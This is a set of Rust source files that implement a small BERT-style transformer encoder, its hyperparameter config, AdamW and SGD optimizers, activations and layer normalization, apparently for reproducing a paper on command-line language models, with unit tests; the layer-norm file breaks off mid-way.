use rand::Rng;

/// One post-layer-norm transformer block (the BERT arrangement):
/// `x ← LN(x + Attn(x))`, then `x ← LN(x + FFN(x))`.
#[derive(Debug, Clone)]
pub struct EncoderBlock {
    attn: MultiHeadAttention,
    ln1: LayerNorm,
    ffn: FeedForward,
    ln2: LayerNorm,
}

/// Forward cache for [`EncoderBlock::backward`].
#[derive(Debug)]
pub struct BlockCache {
    ca: AttentionCache,
    cl1: LayerNormCache,
    cf: FeedForwardCache,
    cl2: LayerNormCache,
}

impl EncoderBlock {
    /// Creates a block for the given configuration.
    pub fn new<R: Rng + ?Sized>(rng: &mut R, config: &ModelConfig) -> Self {
        EncoderBlock {
            attn: MultiHeadAttention::new(rng, config.hidden, config.heads),
            ln1: LayerNorm::new(config.hidden),
            ffn: FeedForward::new(rng, config.hidden, config.ff_dim()),
            ln2: LayerNorm::new(config.hidden),
        }
    }

    /// Forward pass over `(s, hidden)`.
    pub fn forward(&self, x: &Matrix) -> (Matrix, BlockCache) {
        let (a, ca) = self.attn.forward(x);
        let sum1 = x + &a;
        let (n1, cl1) = self.ln1.forward(&sum1);
        let (f, cf) = self.ffn.forward(&n1);
        let sum2 = &n1 + &f;
        let (y, cl2) = self.ln2.forward(&sum2);
        (y, BlockCache { ca, cl1, cf, cl2 })
    }

    /// Backward pass: returns `dx`.
    pub fn backward(&mut self, cache: &BlockCache, dy: &Matrix) -> Matrix {
        let dsum2 = self.ln2.backward(&cache.cl2, dy);
        // sum2 = n1 + f
        let df = dsum2.clone();
        let dn1_from_ffn = self.ffn.backward(&cache.cf, &df);
        let mut dn1 = dsum2;
        dn1 += &dn1_from_ffn;
        let dsum1 = self.ln1.backward(&cache.cl1, &dn1);
        // sum1 = x + a
        let da = dsum1.clone();
        let dx_from_attn = self.attn.backward(&cache.ca, &da);
        let mut dx = dsum1;
        dx += &dx_from_attn;
        dx
    }

    /// Inference-only forward over stacked equal-length sequences
    /// (`seq_len` rows each); bit-identical to per-sequence
    /// [`EncoderBlock::forward`] since layer norm and the FFN are
    /// row-wise and attention is confined to row blocks.
    pub fn apply_batched(&self, x: &Matrix, seq_len: usize) -> Matrix {
        let a = self.attn.apply_batched(x, seq_len);
        let sum1 = x + &a;
        let n1 = self.ln1.apply(&sum1);
        let f = self.ffn.apply(&n1);
        let sum2 = &n1 + &f;
        self.ln2.apply(&sum2)
    }

    /// Visits all parameters in stable order.
    pub fn visit_params(&mut self, f: &mut impl FnMut(&mut Param)) {
        self.attn.visit_params(f);
        self.ln1.visit_params(f);
        self.ffn.visit_params(f);
        self.ln2.visit_params(f);
    }
}

/// The full encoder: embeddings plus a stack of blocks.
///
/// This is the paper's command-line language model backbone `f(·)`.
#[derive(Debug, Clone)]
pub struct Encoder {
    config: ModelConfig,
    embeddings: Embeddings,
    blocks: Vec<EncoderBlock>,
}

/// Forward cache for [`Encoder::backward`].
#[derive(Debug)]
pub struct EncoderCache {
    ce: EmbeddingCache,
    blocks: Vec<BlockCache>,
}

impl Encoder {
    /// Creates a randomly initialized encoder.
    pub fn new<R: Rng + ?Sized>(config: ModelConfig, rng: &mut R) -> Self {
        let embeddings = Embeddings::new(rng, config.vocab_size, config.max_len, config.hidden);
        let blocks = (0..config.layers)
            .map(|_| EncoderBlock::new(rng, &config))
            .collect();
        Encoder {
            config,
            embeddings,
            blocks,
        }
    }

    /// The configuration.
    pub fn config(&self) -> &ModelConfig {
        &self.config
    }

    /// Inference forward: no backward caches are built (training goes
    /// through [`Encoder::forward_cached`]). Float-for-float identical
    /// to the cached pass — both run the same row-wise ops in the same
    /// order.
    pub fn forward(&self, ids: &[u32]) -> Matrix {
        let hidden = self.config.hidden;
        let mut x = Matrix::zeros(ids.len(), hidden);
        self.embeddings.lookup_into(ids, x.as_mut_slice());
        for block in &self.blocks {
            x = block.apply_batched(&x, ids.len());
        }
        x
    }

    /// Forward pass returning hidden states `(s, hidden)` and the cache
    /// needed for [`Encoder::backward`].
    pub fn forward_cached(&self, ids: &[u32]) -> (Matrix, EncoderCache) {
        let (mut x, ce) = self.embeddings.forward(ids);
        let mut caches = Vec::with_capacity(self.blocks.len());
        for block in &self.blocks {
            let (y, cache) = block.forward(&x);
            x = y;
            caches.push(cache);
        }
        (x, EncoderCache { ce, blocks: caches })
    }

    /// Backward pass from a gradient on the output hidden states.
    /// Accumulates gradients in every parameter (including embeddings).
    pub fn backward(&mut self, cache: &EncoderCache, dhidden: &Matrix) {
        let mut d = dhidden.clone();
        for (block, bc) in self.blocks.iter_mut().zip(&cache.blocks).rev() {
            d = block.backward(bc, &d);
        }
        self.embeddings.backward(&cache.ce, &d);
    }

    /// Batched inference forward: hidden states for every sequence,
    /// bit-identical to calling [`Encoder::forward`] per sequence.
    ///
    /// Sequences are bucketed by exact length and each bucket is
    /// stacked into one `(batch·len, hidden)` matrix, so the embedding
    /// lookup, Q/K/V/O projections, feed-forward, and layer norms run
    /// as a few large row-wise operations instead of thousands of tiny
    /// ones; the attention core stays per-sequence on row blocks
    /// ([`EncoderBlock::apply_batched`]), which doubles as the
    /// attention mask — no token can attend across a sequence
    /// boundary, and equal-length bucketing means no padding is ever
    /// inserted. The projection/FFN matmuls run on the register-tiled
    /// GEMM micro-kernels in `linalg::kernels`, which keep each
    /// output's k-accumulation order — that is what preserves the
    /// bit-identity guarantee above (`benches/forward.rs` measures the
    /// batched forward on them).
    pub fn forward_batch(&self, seqs: &[Vec<u32>]) -> Vec<Matrix> {
        let mut out: Vec<Option<Matrix>> = (0..seqs.len()).map(|_| None).collect();
        self.forward_batch_visit(seqs, |i, stacked, row0, len| {
            out[i] = Some(stacked.row_block(row0, len));
        });
        out.into_iter()
            .map(|m| m.expect("every sequence visited"))
            .collect()
    }

    /// Mean-pooled embeddings of a batch `(n, hidden)` — the batched
    /// equivalent of [`Encoder::embed_mean`] per row, bit-identically.
    pub fn embed_mean_batch(&self, seqs: &[Vec<u32>]) -> Matrix {
        let hidden = self.config.hidden;
        let mut out = Matrix::zeros(seqs.len(), hidden);
        self.forward_batch_visit(seqs, |i, stacked, row0, len| {
            let dst = out.row_mut(i);
            for r in 0..len {
                for (o, v) in dst.iter_mut().zip(stacked.row(row0 + r)) {
                    *o += v;
                }
            }
            let n = len as f32;
            for o in dst.iter_mut() {
                *o /= n;
            }
        });
        out
    }

    /// `[CLS]` embeddings of a batch `(n, hidden)` — the batched
    /// equivalent of [`Encoder::embed_cls`] per row, bit-identically.
    pub fn embed_cls_batch(&self, seqs: &[Vec<u32>]) -> Matrix {
        let hidden = self.config.hidden;
        let mut out = Matrix::zeros(seqs.len(), hidden);
        self.forward_batch_visit(seqs, |i, stacked, row0, _| {
            out.row_mut(i).copy_from_slice(stacked.row(row0));
        });
        out
    }

    /// Shared batched-forward core: buckets `seqs` by exact length,
    /// stacks each bucket (capped at [`Encoder::MAX_BATCH_ROWS`] rows
    /// to bound peak memory), runs the blocks, and hands each
    /// sequence's hidden-state rows to `visit` as
    /// `(seq_index, stacked_matrix, first_row, seq_len)`.
    fn forward_batch_visit(
        &self,
        seqs: &[Vec<u32>],
        mut visit: impl FnMut(usize, &Matrix, usize, usize),
    ) {
        use std::collections::BTreeMap;
        let hidden = self.config.hidden;
        let mut buckets: BTreeMap<usize, Vec<usize>> = BTreeMap::new();
        for (i, ids) in seqs.iter().enumerate() {
            buckets.entry(ids.len()).or_default().push(i);
        }
        for (len, idxs) in buckets {
            let per_batch = (Self::MAX_BATCH_ROWS / len.max(1)).max(1);
            for chunk in idxs.chunks(per_batch) {
                let mut x = Matrix::zeros(chunk.len() * len, hidden);
                for (b, &i) in chunk.iter().enumerate() {
                    self.embeddings.lookup_into(
                        &seqs[i],
                        &mut x.as_mut_slice()[b * len * hidden..(b + 1) * len * hidden],
                    );
                }
                for block in &self.blocks {
                    x = block.apply_batched(&x, len);
                }
                for (b, &i) in chunk.iter().enumerate() {
                    visit(i, &x, b * len, len);
                }
            }
        }
    }

    /// Upper bound on stacked rows per batched forward (bounds the
    /// transient Q/K/V/context matrices to a few MB at typical widths).
    const MAX_BATCH_ROWS: usize = 8_192;

    /// Mean-pooled sequence embedding — the paper's average pooling over
    /// token embeddings for PCA detection (Section III).
    pub fn embed_mean(&self, ids: &[u32]) -> Vec<f32> {
        let h = self.forward(ids);
        let mut out = vec![0.0f32; h.cols()];
        for r in 0..h.rows() {
            for (o, v) in out.iter_mut().zip(h.row(r)) {
                *o += v;
            }
        }
        let n = h.rows() as f32;
        for o in &mut out {
            *o /= n;
        }
        out
    }

    /// `[CLS]` embedding: the hidden state of position 0 (the paper's
    /// probing target, Section IV-B). The caller is responsible for
    /// having `[CLS]` first, which `bpe::Tokenizer::encode_for_model`
    /// guarantees.
    pub fn embed_cls(&self, ids: &[u32]) -> Vec<f32> {
        let h = self.forward(ids);
        h.row(0).to_vec()
    }

    /// Visits every parameter in stable order (embeddings first).
    pub fn visit_params(&mut self, f: &mut impl FnMut(&mut Param)) {
        self.embeddings.visit_params(f);
        for block in &mut self.blocks {
            block.visit_params(f);
        }
    }

    /// Zeroes all gradients.
    pub fn zero_grad(&mut self) {
        self.visit_params(&mut |p| p.zero_grad());
    }

    /// Total scalar parameter count.
    pub fn num_params(&mut self) -> usize {
        let mut n = 0;
        self.visit_params(&mut |p| n += p.len());
        n
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn tiny() -> (Encoder, StdRng) {
        let mut rng = StdRng::seed_from_u64(1);
        let config = ModelConfig {
            vocab_size: 50,
            hidden: 8,
            layers: 2,
            heads: 2,
            ff_mult: 2,
            max_len: 16,
        };
        let enc = Encoder::new(config, &mut rng);
        (enc, rng)
    }

    fn loss(y: &Matrix) -> f32 {
        0.5 * y.as_slice().iter().map(|v| v * v).sum::<f32>()
    }

    #[test]
    fn forward_shape() {
        let (enc, _) = tiny();
        let h = enc.forward(&[2, 7, 8, 9, 3]);
        assert_eq!(h.shape(), (5, 8));
    }

    #[test]
    fn block_gradient_check() {
        let mut rng = StdRng::seed_from_u64(2);
        let config = ModelConfig {
            vocab_size: 10,
            hidden: 8,
            layers: 1,
            heads: 2,
            ff_mult: 2,
            max_len: 8,
        };
        let mut block = EncoderBlock::new(&mut rng, &config);
        let x = linalg::rng::randn(&mut rng, 4, 8, 0.7);
        let (y, cache) = block.forward(&x);
        let dx = block.backward(&cache, &y);

        let eps = 1e-2;
        for idx in [(0usize, 0usize), (1, 4), (3, 7)] {
            let mut xp = x.clone();
            xp[idx] += eps;
            let (yp, _) = block.forward(&xp);
            let mut xm = x.clone();
            xm[idx] -= eps;
            let (ym, _) = block.forward(&xm);
            let numeric = (loss(&yp) - loss(&ym)) / (2.0 * eps);
            assert!(
                (numeric - dx[idx]).abs() < 8e-2 * (1.0 + numeric.abs()),
                "block dx{idx:?}: numeric {numeric} vs analytic {}",
                dx[idx]
            );
        }
    }

    #[test]
    fn full_encoder_gradient_check_on_embedding_table() {
        let (mut enc, _) = tiny();
        let ids = [2u32, 7, 8, 3];
        let (h, cache) = enc.forward_cached(&ids);
        enc.zero_grad();
        enc.backward(&cache, &h);

        // Finite-difference check on the token-embedding entry of id 7.
        let eps = 1e-2;
        let idx = (7usize, 3usize);
        let orig = enc.embeddings.tokens.value[idx];
        enc.embeddings.tokens.value[idx] = orig + eps;
        let hp = enc.forward(&ids);
        enc.embeddings.tokens.value[idx] = orig - eps;
        let hm = enc.forward(&ids);
        enc.embeddings.tokens.value[idx] = orig;
        let numeric = (loss(&hp) - loss(&hm)) / (2.0 * eps);
        let analytic = enc.embeddings.tokens.grad[idx];
        assert!(
            (numeric - analytic).abs() < 8e-2 * (1.0 + numeric.abs()),
            "dE{idx:?}: numeric {numeric} vs analytic {analytic}"
        );
    }

    #[test]
    fn mean_and_cls_embeddings() {
        let (enc, _) = tiny();
        let mean = enc.embed_mean(&[2, 5, 3]);
        let cls = enc.embed_cls(&[2, 5, 3]);
        assert_eq!(mean.len(), 8);
        assert_eq!(cls.len(), 8);
        let h = enc.forward(&[2, 5, 3]);
        assert_eq!(cls, h.row(0).to_vec());
        // Mean is the column average.
        let expect: Vec<f32> = (0..8)
            .map(|c| (h[(0, c)] + h[(1, c)] + h[(2, c)]) / 3.0)
            .collect();
        for (a, b) in mean.iter().zip(&expect) {
            assert!((a - b).abs() < 1e-5);
        }
    }

    #[test]
    fn param_count_matches_config_estimate() {
        let (mut enc, _) = tiny();
        let estimate = enc.config().param_count();
        let actual = enc.num_params();
        assert_eq!(actual, estimate);
    }

    #[test]
    fn zero_grad_clears_everything() {
        let (mut enc, _) = tiny();
        let ids = [2u32, 4, 3];
        let (h, cache) = enc.forward_cached(&ids);
        enc.backward(&cache, &h);
        enc.zero_grad();
        let mut all_zero = true;
        enc.visit_params(&mut |p| {
            if p.grad.as_slice().iter().any(|&g| g != 0.0) {
                all_zero = false;
            }
        });
        assert!(all_zero);
    }

    #[test]
    fn forward_batch_matches_forward_across_ragged_lengths() {
        let (enc, _) = tiny();
        // Ragged lengths, duplicate lengths, single-token sequences.
        let seqs: Vec<Vec<u32>> = vec![
            vec![2, 7, 8, 9, 3],
            vec![2, 5, 3],
            vec![2, 7, 8, 9, 3],
            vec![2, 10, 11, 3],
            vec![7],
            vec![2, 4, 6, 8, 10, 12, 14, 3],
            vec![2, 3],
        ];
        let batched = enc.forward_batch(&seqs);
        for (i, ids) in seqs.iter().enumerate() {
            let single = enc.forward(ids);
            assert_eq!(batched[i], single, "sequence {i} diverged");
        }
    }

    #[test]
    fn embed_batch_matches_pooled_singles() {
        let (enc, _) = tiny();
        let seqs: Vec<Vec<u32>> = vec![vec![2, 7, 8, 3], vec![2, 9, 3], vec![2, 7, 8, 9, 10, 3]];
        let mean = enc.embed_mean_batch(&seqs);
        let cls = enc.embed_cls_batch(&seqs);
        for (i, ids) in seqs.iter().enumerate() {
            assert_eq!(mean.row(i), enc.embed_mean(ids), "mean row {i}");
            assert_eq!(cls.row(i), enc.embed_cls(ids), "cls row {i}");
        }
    }

    #[test]
    fn forward_batch_empty_input() {
        let (enc, _) = tiny();
        assert!(enc.forward_batch(&[]).is_empty());
        assert_eq!(enc.embed_mean_batch(&[]).rows(), 0);
    }

    #[test]
    fn deterministic_construction() {
        let config = ModelConfig::tiny(64);
        let a = Encoder::new(config, &mut StdRng::seed_from_u64(5));
        let b = Encoder::new(config, &mut StdRng::seed_from_u64(5));
        let ha = a.forward(&[2, 10, 3]);
        let hb = b.forward(&[2, 10, 3]);
        assert_eq!(ha, hb);
    }
}
