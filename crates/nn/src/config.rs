//! Model hyper-parameters.

use serde::{Deserialize, Serialize};

/// Transformer encoder configuration.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct ModelConfig {
    /// Vocabulary size (paper: 50 000).
    pub vocab_size: usize,
    /// Hidden width (paper: 768).
    pub hidden: usize,
    /// Number of transformer blocks (paper: 12).
    pub layers: usize,
    /// Attention heads per block (paper: 12).
    pub heads: usize,
    /// Feed-forward inner width multiplier (BERT uses 4).
    pub ff_mult: usize,
    /// Maximum sequence length (paper: 1024).
    pub max_len: usize,
}

impl ModelConfig {
    /// The paper's architecture: BERT-base over a 50k BPE vocabulary.
    pub fn bert_base() -> Self {
        ModelConfig {
            vocab_size: 50_000,
            hidden: 768,
            layers: 12,
            heads: 12,
            ff_mult: 4,
            max_len: 1024,
        }
    }

    /// The scaled-down configuration used for experiments in this
    /// reproduction (CPU-trainable in seconds; same structure).
    pub fn tiny(vocab_size: usize) -> Self {
        ModelConfig {
            vocab_size,
            hidden: 32,
            layers: 2,
            heads: 4,
            ff_mult: 4,
            max_len: 64,
        }
    }

    /// A mid-size configuration for the larger experiment binaries.
    pub fn small(vocab_size: usize) -> Self {
        ModelConfig {
            vocab_size,
            hidden: 64,
            layers: 4,
            heads: 8,
            ff_mult: 4,
            max_len: 96,
        }
    }

    /// Head dimensionality.
    ///
    /// # Panics
    ///
    /// Panics if `hidden` is not divisible by `heads`.
    pub fn head_dim(&self) -> usize {
        assert_eq!(
            self.hidden % self.heads,
            0,
            "hidden {} must divide by heads {}",
            self.hidden,
            self.heads
        );
        self.hidden / self.heads
    }

    /// Feed-forward inner width.
    pub fn ff_dim(&self) -> usize {
        self.hidden * self.ff_mult
    }

    /// Approximate parameter count (embeddings + blocks + final norm).
    pub fn param_count(&self) -> usize {
        let emb = self.vocab_size * self.hidden + self.max_len * self.hidden;
        let attn = 4 * (self.hidden * self.hidden + self.hidden);
        let ffn =
            self.hidden * self.ff_dim() + self.ff_dim() + self.ff_dim() * self.hidden + self.hidden;
        let norms = 2 * (2 * self.hidden);
        emb + self.layers * (attn + ffn + norms)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bert_base_matches_paper() {
        let c = ModelConfig::bert_base();
        assert_eq!(c.vocab_size, 50_000);
        assert_eq!(c.hidden, 768);
        assert_eq!(c.layers, 12);
        assert_eq!(c.heads, 12);
        assert_eq!(c.max_len, 1024);
        assert_eq!(c.head_dim(), 64);
        assert_eq!(c.ff_dim(), 3072);
        // BERT-base is ~110M params; ours lacks the pooler/tied decoder
        // but must be the right order of magnitude (embeddings here are
        // 50k-vocab so ~124M total).
        assert!(c.param_count() > 80_000_000 && c.param_count() < 160_000_000);
    }

    #[test]
    fn tiny_is_consistent() {
        let c = ModelConfig::tiny(500);
        assert_eq!(c.head_dim() * c.heads, c.hidden);
        assert!(c.param_count() < 1_000_000);
    }

    #[test]
    #[should_panic(expected = "must divide")]
    fn indivisible_heads_panic() {
        let mut c = ModelConfig::tiny(100);
        c.heads = 5;
        let _ = c.head_dim();
    }
}
