//! Optimizers: AdamW (used by the paper for head tuning) and plain SGD.

use crate::param::Param;
use linalg::Matrix;

/// Walks every parameter of a model, calling the given callback once
/// per tensor in a stable order.
pub type ParamWalker<'a> = dyn FnMut(&mut dyn FnMut(&mut Param)) + 'a;

/// A gradient-descent optimizer.
///
/// Parameters are walked through a visitor so that composite models
/// (encoder + head) can be stepped together without collecting mutable
/// references. The visit order must be identical every step — layers'
/// `visit_params` methods guarantee this — because per-parameter state is
/// matched positionally.
pub trait Optimizer {
    /// Performs one update. `visit` must call the supplied callback once
    /// per parameter, in a stable order.
    fn step_visit(&mut self, visit: &mut ParamWalker<'_>);

    /// Convenience wrapper for a flat parameter list.
    fn step(&mut self, params: &mut [&mut Param]) {
        self.step_visit(&mut |f| {
            for p in params.iter_mut() {
                f(p);
            }
        });
    }

    /// Current learning rate.
    fn learning_rate(&self) -> f32;

    /// Replaces the learning rate (for warmup/decay schedules).
    fn set_learning_rate(&mut self, lr: f32);
}

/// AdamW: Adam with decoupled weight decay. The paper tunes its
/// classification head "with a learning rate of 5e-5 … using AdamW".
#[derive(Debug, Clone)]
pub struct AdamW {
    lr: f32,
    beta1: f32,
    beta2: f32,
    eps: f32,
    weight_decay: f32,
    t: u64,
    moments: Vec<(Matrix, Matrix)>,
}

impl AdamW {
    /// Creates AdamW with the standard betas (0.9, 0.999) and the given
    /// learning rate and weight decay.
    pub fn new(lr: f32, weight_decay: f32) -> Self {
        AdamW {
            lr,
            beta1: 0.9,
            beta2: 0.999,
            eps: 1e-8,
            weight_decay,
            t: 0,
            moments: Vec::new(),
        }
    }

    /// The paper's head-tuning setting: lr 5e-5, decay 0.01.
    pub fn paper_default() -> Self {
        AdamW::new(5e-5, 0.01)
    }

    /// Steps taken so far.
    pub fn steps(&self) -> u64 {
        self.t
    }
}

impl Optimizer for AdamW {
    fn step_visit(&mut self, visit: &mut ParamWalker<'_>) {
        self.t += 1;
        let bc1 = 1.0 - self.beta1.powi(self.t as i32);
        let bc2 = 1.0 - self.beta2.powi(self.t as i32);
        let (beta1, beta2, eps, lr, wd) =
            (self.beta1, self.beta2, self.eps, self.lr, self.weight_decay);
        let moments = &mut self.moments;
        let first_step = self.t == 1;
        let mut index = 0usize;
        visit(&mut |p: &mut Param| {
            if index == moments.len() {
                assert!(
                    first_step,
                    "parameter set must stay fixed across optimizer steps"
                );
                moments.push((
                    Matrix::zeros(p.value.rows(), p.value.cols()),
                    Matrix::zeros(p.value.rows(), p.value.cols()),
                ));
            }
            let (m, v) = &mut moments[index];
            assert_eq!(p.value.shape(), m.shape(), "parameter shape changed");
            let g = p.grad.as_slice();
            let ms = m.as_mut_slice();
            let vs = v.as_mut_slice();
            let w = p.value.as_mut_slice();
            for i in 0..g.len() {
                ms[i] = beta1 * ms[i] + (1.0 - beta1) * g[i];
                vs[i] = beta2 * vs[i] + (1.0 - beta2) * g[i] * g[i];
                let mhat = ms[i] / bc1;
                let vhat = vs[i] / bc2;
                // Decoupled decay applies to the weight, not the grad.
                w[i] -= lr * (mhat / (vhat.sqrt() + eps) + wd * w[i]);
            }
            index += 1;
        });
        assert_eq!(
            index,
            moments.len(),
            "parameter set must stay fixed across optimizer steps"
        );
    }

    fn learning_rate(&self) -> f32 {
        self.lr
    }

    fn set_learning_rate(&mut self, lr: f32) {
        self.lr = lr;
    }
}

/// Plain stochastic gradient descent, optionally with momentum.
#[derive(Debug, Clone)]
pub struct Sgd {
    lr: f32,
    momentum: f32,
    velocity: Vec<Matrix>,
    stepped: bool,
}

impl Sgd {
    /// Creates SGD.
    pub fn new(lr: f32, momentum: f32) -> Self {
        Sgd {
            lr,
            momentum,
            velocity: Vec::new(),
            stepped: false,
        }
    }
}

impl Optimizer for Sgd {
    fn step_visit(&mut self, visit: &mut ParamWalker<'_>) {
        let (lr, momentum) = (self.lr, self.momentum);
        let velocity = &mut self.velocity;
        let first_step = !self.stepped;
        self.stepped = true;
        let mut index = 0usize;
        visit(&mut |p: &mut Param| {
            if index == velocity.len() {
                assert!(
                    first_step,
                    "parameter set must stay fixed across optimizer steps"
                );
                velocity.push(Matrix::zeros(p.value.rows(), p.value.cols()));
            }
            let v = &mut velocity[index];
            let g = p.grad.as_slice();
            let vs = v.as_mut_slice();
            let w = p.value.as_mut_slice();
            for i in 0..g.len() {
                vs[i] = momentum * vs[i] + g[i];
                w[i] -= lr * vs[i];
            }
            index += 1;
        });
        assert_eq!(
            index,
            velocity.len(),
            "parameter set must stay fixed across optimizer steps"
        );
    }

    fn learning_rate(&self) -> f32 {
        self.lr
    }

    fn set_learning_rate(&mut self, lr: f32) {
        self.lr = lr;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Minimizes f(w) = ½(w − 3)² from w = 0.
    fn quadratic_descent(opt: &mut dyn Optimizer, steps: usize) -> f32 {
        let mut p = Param::new(Matrix::zeros(1, 1));
        for _ in 0..steps {
            p.zero_grad();
            p.grad[(0, 0)] = p.value[(0, 0)] - 3.0;
            opt.step(&mut [&mut p]);
        }
        p.value[(0, 0)]
    }

    #[test]
    fn sgd_converges_on_quadratic() {
        let mut opt = Sgd::new(0.1, 0.0);
        let w = quadratic_descent(&mut opt, 200);
        assert!((w - 3.0).abs() < 1e-3, "w = {w}");
    }

    #[test]
    fn sgd_momentum_converges() {
        let mut opt = Sgd::new(0.05, 0.9);
        let w = quadratic_descent(&mut opt, 300);
        assert!((w - 3.0).abs() < 1e-2, "w = {w}");
    }

    #[test]
    fn adamw_converges_on_quadratic() {
        let mut opt = AdamW::new(0.05, 0.0);
        let w = quadratic_descent(&mut opt, 800);
        assert!((w - 3.0).abs() < 1e-2, "w = {w}");
    }

    #[test]
    fn weight_decay_shrinks_weights() {
        // With zero gradient, AdamW must still decay weights.
        let mut p = Param::new(Matrix::full(1, 1, 1.0));
        let mut opt = AdamW::new(0.1, 0.5);
        for _ in 0..10 {
            p.zero_grad();
            opt.step(&mut [&mut p]);
        }
        assert!(p.value[(0, 0)] < 0.7, "decay did not shrink weight");
    }

    #[test]
    fn learning_rate_is_adjustable() {
        let mut opt = AdamW::new(0.1, 0.0);
        assert_eq!(opt.learning_rate(), 0.1);
        opt.set_learning_rate(0.01);
        assert_eq!(opt.learning_rate(), 0.01);
    }

    #[test]
    fn step_counter_advances() {
        let mut opt = AdamW::new(0.1, 0.0);
        let mut p = Param::new(Matrix::zeros(2, 2));
        opt.step(&mut [&mut p]);
        opt.step(&mut [&mut p]);
        assert_eq!(opt.steps(), 2);
    }

    #[test]
    fn visitor_step_matches_slice_step() {
        let run = |use_visitor: bool| -> f32 {
            let mut opt = AdamW::new(0.05, 0.0);
            let mut p = Param::new(Matrix::zeros(1, 1));
            for _ in 0..50 {
                p.zero_grad();
                p.grad[(0, 0)] = p.value[(0, 0)] - 2.0;
                if use_visitor {
                    opt.step_visit(&mut |f| f(&mut p));
                } else {
                    opt.step(&mut [&mut p]);
                }
            }
            p.value[(0, 0)]
        };
        assert_eq!(run(true), run(false));
    }

    #[test]
    #[should_panic(expected = "parameter set must stay fixed")]
    fn shrinking_param_count_panics() {
        let mut opt = AdamW::new(0.1, 0.0);
        let mut a = Param::new(Matrix::zeros(1, 1));
        let mut b = Param::new(Matrix::zeros(1, 1));
        opt.step(&mut [&mut a, &mut b]);
        opt.step(&mut [&mut a]);
    }

    #[test]
    #[should_panic(expected = "parameter set must stay fixed")]
    fn growing_param_count_panics() {
        let mut opt = Sgd::new(0.1, 0.0);
        let mut a = Param::new(Matrix::zeros(1, 1));
        let mut b = Param::new(Matrix::zeros(1, 1));
        opt.step(&mut [&mut a]);
        opt.step(&mut [&mut a, &mut b]);
    }
}
