//! Activation functions and their derivatives.

/// GELU (tanh approximation), the transformer feed-forward nonlinearity.
pub fn gelu(x: f32) -> f32 {
    const C: f32 = 0.797_884_6; // sqrt(2/π)
    0.5 * x * (1.0 + (C * (x + 0.044715 * x * x * x)).tanh())
}

/// Derivative of [`gelu`] with respect to its input.
pub fn gelu_grad(x: f32) -> f32 {
    const C: f32 = 0.797_884_6;
    let x3 = x * x * x;
    let inner = C * (x + 0.044715 * x3);
    let t = inner.tanh();
    let sech2 = 1.0 - t * t;
    0.5 * (1.0 + t) + 0.5 * x * sech2 * C * (1.0 + 3.0 * 0.044715 * x * x)
}

/// ReLU, used by the classification head's hidden layer.
pub fn relu(x: f32) -> f32 {
    x.max(0.0)
}

/// Derivative of [`relu`].
pub fn relu_grad(x: f32) -> f32 {
    if x > 0.0 {
        1.0
    } else {
        0.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn numeric_grad(f: impl Fn(f32) -> f32, x: f32) -> f32 {
        let h = 1e-3;
        (f(x + h) - f(x - h)) / (2.0 * h)
    }

    #[test]
    fn gelu_known_values() {
        assert!((gelu(0.0)).abs() < 1e-6);
        assert!((gelu(1.0) - 0.8412).abs() < 1e-3);
        assert!((gelu(-1.0) + 0.1588).abs() < 1e-3);
        // Large positive ≈ identity, large negative ≈ 0.
        assert!((gelu(6.0) - 6.0).abs() < 1e-3);
        assert!(gelu(-6.0).abs() < 1e-3);
    }

    #[test]
    fn gelu_grad_matches_finite_difference() {
        for &x in &[-3.0f32, -1.0, -0.1, 0.0, 0.5, 1.0, 2.5] {
            let analytic = gelu_grad(x);
            let numeric = numeric_grad(gelu, x);
            assert!(
                (analytic - numeric).abs() < 1e-2,
                "x={x}: analytic {analytic} vs numeric {numeric}"
            );
        }
    }

    #[test]
    fn relu_and_grad() {
        assert_eq!(relu(-2.0), 0.0);
        assert_eq!(relu(3.0), 3.0);
        assert_eq!(relu_grad(-2.0), 0.0);
        assert_eq!(relu_grad(3.0), 1.0);
    }
}
