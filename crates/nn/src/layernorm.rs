//! Layer normalization with manual backprop.

use crate::param::Param;
use linalg::Matrix;

/// Row-wise layer norm: `y = γ · (x − μ)/σ + β`.
#[derive(Debug, Clone)]
pub struct LayerNorm {
    /// Scale, `(1, width)`.
    pub gamma: Param,
    /// Shift, `(1, width)`.
    pub beta: Param,
    eps: f32,
}

/// Forward cache for [`LayerNorm::backward`].
#[derive(Debug, Clone)]
pub struct LayerNormCache {
    xhat: Matrix,
    inv_std: Vec<f32>,
}

impl LayerNorm {
    /// Creates a layer norm over rows of the given width (γ=1, β=0).
    pub fn new(width: usize) -> Self {
        LayerNorm {
            gamma: Param::new(Matrix::full(1, width, 1.0)),
            beta: Param::new(Matrix::zeros(1, width)),
            eps: 1e-5,
        }
    }

    /// Normalized width.
    pub fn width(&self) -> usize {
        self.gamma.value.cols()
    }

    /// Inference-only forward: no cache allocation. Row-wise, so
    /// results are bit-identical to [`LayerNorm::forward`] under any
    /// batching of the rows.
    pub fn apply(&self, x: &Matrix) -> Matrix {
        let (n, d) = x.shape();
        let mut y = Matrix::zeros(n, d);
        let gamma = self.gamma.value.row(0);
        let beta = self.beta.value.row(0);
        for r in 0..n {
            let row = x.row(r);
            let mean = row.iter().sum::<f32>() / d as f32;
            let var = row.iter().map(|v| (v - mean) * (v - mean)).sum::<f32>() / d as f32;
            let istd = 1.0 / (var + self.eps).sqrt();
            let out = y.row_mut(r);
            for c in 0..d {
                let h = (row[c] - mean) * istd;
                out[c] = gamma[c] * h + beta[c];
            }
        }
        y
    }

    /// Forward pass.
    pub fn forward(&self, x: &Matrix) -> (Matrix, LayerNormCache) {
        let (n, d) = x.shape();
        let mut y = Matrix::zeros(n, d);
        let mut xhat = Matrix::zeros(n, d);
        let mut inv_std = Vec::with_capacity(n);
        let gamma = self.gamma.value.row(0);
        let beta = self.beta.value.row(0);
        for r in 0..n {
            let row = x.row(r);
            let mean = row.iter().sum::<f32>() / d as f32;
            let var = row.iter().map(|v| (v - mean) * (v - mean)).sum::<f32>() / d as f32;
            let istd = 1.0 / (var + self.eps).sqrt();
            inv_std.push(istd);
            for c in 0..d {
                let h = (row[c] - mean) * istd;
                xhat[(r, c)] = h;
                y[(r, c)] = gamma[c] * h + beta[c];
            }
        }
        (y, LayerNormCache { xhat, inv_std })
    }

    /// Backward pass: accumulates `dγ`, `dβ`, returns `dx`.
